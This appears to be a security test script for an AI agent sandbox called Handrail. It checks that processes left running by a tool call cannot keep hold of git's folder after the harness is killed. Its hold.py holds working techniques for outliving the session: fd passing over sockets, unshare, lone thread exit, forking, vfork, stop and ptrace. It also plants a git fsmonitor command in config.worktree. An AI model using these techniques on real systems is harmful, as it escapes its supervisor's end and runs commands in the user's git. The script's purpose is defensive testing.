# What a finished call has left running holds git's folder in ways that a look at /proc/PID/fd does not show: a thread with its own table of
# files, or its own folder, behind a leader that has ended; a handle in a connection nobody has accepted, or in a socket that is itself on its
# way; a process that forks all the time; one that waits in vfork, is stopped, or is traced. Then Handrail is killed, and they go on.
needs walls git python3
source "$ATTACK/gitlib.sh"
repository "$SPACE"
git config extensions.worktreeConfig true
file hold.py <<'EOF'
import array, ctypes, os, signal, socket, sys, threading, time
S = os.getcwd(); C = ctypes.CDLL(None, use_errno=True); EVIL = open("evil.cfg").read()
CLONE_FS, CLONE_FILES, CLONE_VFORK = 0x200, 0x400, 0x4000
def note(way, word): open(f"{S}/notes/{way}.{word}", "w").close()
def wait():
    while not os.path.exists(f"{S}/go"): time.sleep(0.05)
def strike(way, d=None):
    try:
        fd = os.open(f"probe-{way}", os.O_CREAT | os.O_WRONLY, dir_fd=d); os.close(fd)
    except OSError as e:
        note(way, f"failed-{e.errno}"); return
    note(way, "STRUCK")
    fd = os.open("config.worktree", os.O_CREAT | os.O_WRONLY | os.O_TRUNC, dir_fd=d); os.write(fd, EVIL.encode()); os.close(fd)
def opened(): return os.open(f"{S}/.git", os.O_RDONLY | os.O_DIRECTORY)
def plain(): d = opened(); note("plain", "ready"); wait(); strike("plain", d)
def opath(): d = os.open(f"{S}/.git", os.O_PATH | os.O_DIRECTORY); note("opath", "ready"); wait(); strike("opath", d)
def cwd(): os.chdir(f"{S}/.git"); note("cwd", "ready"); wait(); strike("cwd")
def path(): # the control, and what must not work: by the name
    note("path", "ready"); wait(); strike("path", opened())
def leader(way, prepare):
    done = threading.Event()
    def run():
        d = prepare(); note(way, "ready"); done.set(); wait(); strike(way, d); os._exit(0)
    threading.Thread(target=run, daemon=True).start(); done.wait()
    C.syscall.restype = ctypes.c_long
    return
def thread_files():
    def p():
        if C.unshare(CLONE_FILES): note("thread_files", f"no-{ctypes.get_errno()}")
        return opened()
    leader("thread_files", p); time.sleep(1000)
def thread_cwd():
    def p():
        if C.unshare(CLONE_FS): note("thread_cwd", f"no-{ctypes.get_errno()}")
        os.chdir(f"{S}/.git"); return None
    leader("thread_cwd", p); time.sleep(1000)
def gone_files():
    leader("gone_files", opened); PyE()
def gone_cwd():
    def p(): os.chdir(f"{S}/.git"); return None
    leader("gone_cwd", p); PyE()
def gone_own():
    def p():
        C.unshare(CLONE_FILES); return opened()
    leader("gone_own", p); PyE()
def PyE():
    # the leader alone ends (exit, not exit_group); it gives up the interpreter first: ctypes does so while the call runs
    C.syscall(60, 0)
def flight():
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); d = opened()
    socket.send_fds(a, [b"x"], [d]); os.close(d); note("flight", "ready"); wait()
    strike("flight", socket.recv_fds(b, 1, 1)[1][0])
def nested():
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); c, e = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); d = opened()
    socket.send_fds(a, [b"x"], [d]); os.close(d)
    socket.send_fds(c, [b"x"], [b.fileno()]); b.close(); note("nested", "ready"); wait()
    f = socket.recv_fds(e, 1, 1)[1][0]
    strike("nested", socket.recv_fds(socket.socket(fileno=f), 1, 1)[1][0])
def backlog():
    l = socket.socket(socket.AF_UNIX); l.bind(f"{S}/l.sock"); l.listen(5)
    if os.fork() == 0:
        s = socket.socket(socket.AF_UNIX); s.connect(f"{S}/l.sock"); socket.send_fds(s, [b"x"], [opened()]); os._exit(0)
    os.wait(); note("backlog", "ready"); wait()
    s, _ = l.accept(); strike("backlog", socket.recv_fds(s, 1, 1)[1][0])
def forks():
    d = opened(); note("forks", "ready"); n = 0
    while not os.path.exists(f"{S}/go"):
        if os.fork(): os._exit(0)
        time.sleep(0.0005)
    strike("forks", d)
def vforks():
    d = opened(); note("vforks", "ready")
    r = C.syscall(56, CLONE_VFORK | signal.SIGCHLD, 0, 0, 0, 0)
    if r == 0:
        os.close(d); wait(); time.sleep(0.3); os._exit(0)
    strike("vforks", d)
def stopped():
    p = os.fork()
    if p == 0:
        d = opened(); note("stopped", "ready"); os.kill(os.getpid(), signal.SIGSTOP); strike("stopped", d); os._exit(0)
    wait(); os.kill(p, signal.SIGCONT); time.sleep(2)
def traced():
    p = os.fork()
    if p == 0:
        d = opened()
        if C.ptrace(0, 0, 0, 0): note("traced", f"no-{ctypes.get_errno()}")
        note("traced", "ready"); os.kill(os.getpid(), signal.SIGSTOP); strike("traced", d); os._exit(0)
    os.waitpid(p, 0); wait(); C.ptrace(7, p, 0, 0); time.sleep(2)
def below():
    d = os.open(f"{S}/.git/refs", os.O_RDONLY); note("below", "ready"); wait()
    try: u = os.open("..", os.O_RDONLY, dir_fd=d)
    except OSError as e: note("below", f"failed-{e.errno}"); return
    strike("below", u)
def splice():
    r, w = os.pipe(); f = os.open(f"{S}/.git/config.worktree.tmp", os.O_CREAT | os.O_WRONLY); note("splice", "ready")
    def late(): time.sleep(0.2); os.close(f); wait(); os.write(w, b"x")
    threading.Thread(target=late, daemon=True).start()
    try: n = C.splice(r, None, f, None, 4096, 0)
    except OSError: n = -1
    note("splice", f"wrote-{n}")
ways = [plain, opath, cwd, path, thread_files, thread_cwd, gone_files, gone_cwd, gone_own, flight, nested, backlog, forks, vforks, stopped, traced, below, splice]
for w in ways:
    if os.fork() == 0:
        os.setsid(); signal.signal(signal.SIGCHLD, signal.SIG_DFL)
        try: w()
        except BaseException as e: open(f"{S}/notes/{w.__name__}.error", "w").write(repr(e))
        os._exit(0)
EOF
# A development server, which has nothing of git's open, and writes its own files.
file serve.py <<'EOF'
import os, time
while True:
    with open("served.new", "w") as f: f.write(str(time.time()))
    os.rename("served.new", "served"); time.sleep(0.05)
EOF
printf '[core]\n\tfsmonitor = touch %s\n' "$PROOF" >evil.cfg
mkdir notes
mkfifo "$SCRATCH/in"
handrail call - <"$SCRATCH/in" >"$SCRATCH/run" 2>"$SCRATCH/err" &
pid=$!
exec 7>"$SCRATCH/in"
request bash '{"command": "setsid python3 hold.py >/dev/null 2>errors & setsid python3 serve.py >/dev/null 2>&1 & sleep 2.5; ls notes | wc -l"}' >&7
until_true 30 grep -q tool_result "$SCRATCH/run" || dead "the call did not end: $(tail -n 1 "$SCRATCH/err")"
ls notes >>"$SCRATCH/log"
[ "$(ls notes | grep -c ready)" -ge 15 ] || dead "the ways are not ready: $(ls notes | tr '\n' ' ') $(cat errors notes/*.error 2>/dev/null | tail -c 300)"
until_true 5 test -s served || dead "nothing is served"
kill -KILL "$pid"; wait "$pid" 2>/dev/null || true
exec 7>&-
sleep "${GRACE:-2.5}"
rm -f served
touch go
sleep 3
ls notes .git >>"$SCRATCH/log"
until_true 3 test -s served || broke "an innocent development server did not survive Handrail's end"
struck=$(ls notes | sed -n 's/\.STRUCK//p' | tr '\n' ' ')
[ -z "$struck" ] || broke "after Handrail was killed, it was written into git's folder by: $struck"
person "$SPACE"
none "$PROOF" "after Handrail was killed, what was left running led the person's git to its commands"
if ((${#broken[@]} == 0)); then
	rm -f "$PROOF" go notes/*; mkdir -p notes
	python3 hold.py 2>>"$SCRATCH/log"; sleep 2; touch go; sleep 2.5
	ls notes >>"$SCRATCH/controls"
	[ "$(ls notes | grep -c STRUCK)" -ge 12 ] || dead "outside it does not work either: $(ls notes | tr '\n' ' ')"
	person "$SPACE"
	[ -e "$PROOF" ] || dead "git is not led astray by this"
fi
held
